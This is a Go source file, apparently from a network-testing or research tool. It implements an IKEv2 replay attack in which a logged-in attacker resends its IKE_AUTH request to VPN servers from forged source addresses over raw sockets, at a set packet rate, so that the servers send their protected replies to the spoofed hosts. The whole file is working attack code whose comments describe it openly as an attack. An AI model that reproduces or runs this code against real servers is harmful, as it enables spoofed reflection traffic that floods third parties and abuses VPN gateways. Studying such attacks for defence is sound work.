package peer

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/netip"
)

// ReplayConfig is an attack with a real request: who has an account logs in once
// and sends his own IKE_AUTH again and again from forged sources. The server
// knows an SA by its SPIs and repeats its protected reply to each of them
// (RFC 7296 2.1), which looks like what only a completed key exchange earns.
type ReplayConfig struct {
	Targets   []Target     `json:"targets"`
	Attackers []netip.Addr `json:"attackers"` // their real addresses; each for the VIP of its family
	Packets   int          `json:"packets"`
	Rate      int          `json:"rate"` // packets a second
}

// ReplayResult says what was sent.
type ReplayResult struct {
	Attackers int `json:"attackers"` // that logged in
	Servers   int `json:"servers"`   // on so many servers
	Sent      int `json:"sent"`
}

// Replay runs it and writes the result to out as JSON.
func Replay(ctx context.Context, cfg ReplayConfig, out io.Writer) error {
	raw, err := newRawSender()
	if err != nil {
		return err
	}
	defer raw.close()
	var tunnels []*tunnel
	var targets []Target
	servers := map[uint16]bool{}
	var elsewhere foreign
	for _, a := range cfg.Attackers {
		for _, t := range cfg.Targets {
			if t.VIP.Is4() != a.Is4() {
				continue
			}
			tun, err := login(ctx, a, t.VIP, Plain, &elsewhere)
			if err != nil {
				return fmt.Errorf("log in as %s: %w", a, err)
			}
			defer tun.conn.Close()
			tunnels, targets = append(tunnels, tun), append(targets, t)
			servers[tun.server] = true
		}
	}
	if len(tunnels) == 0 {
		return fmt.Errorf("no attacker could log in")
	}
	r := ReplayResult{Attackers: len(tunnels), Servers: len(servers)}
	err = paced(ctx, cfg.Packets, cfg.Rate, func(n int) error {
		tun, t := tunnels[n%len(tunnels)], targets[n%len(tunnels)]
		from := randomIn(t.Sources)
		d := datagram(netip.AddrPortFrom(from, randomPort()), netip.AddrPortFrom(t.VIP, 4500), tun.request)
		r.Sent++
		return raw.send(t.VIP, ipPacket(from, t.VIP, protoUDP, piece{}, d))
	})
	if err := errors.Join(err, elsewhere.err()); err != nil {
		return err
	}
	return json.NewEncoder(out).Encode(r)
}
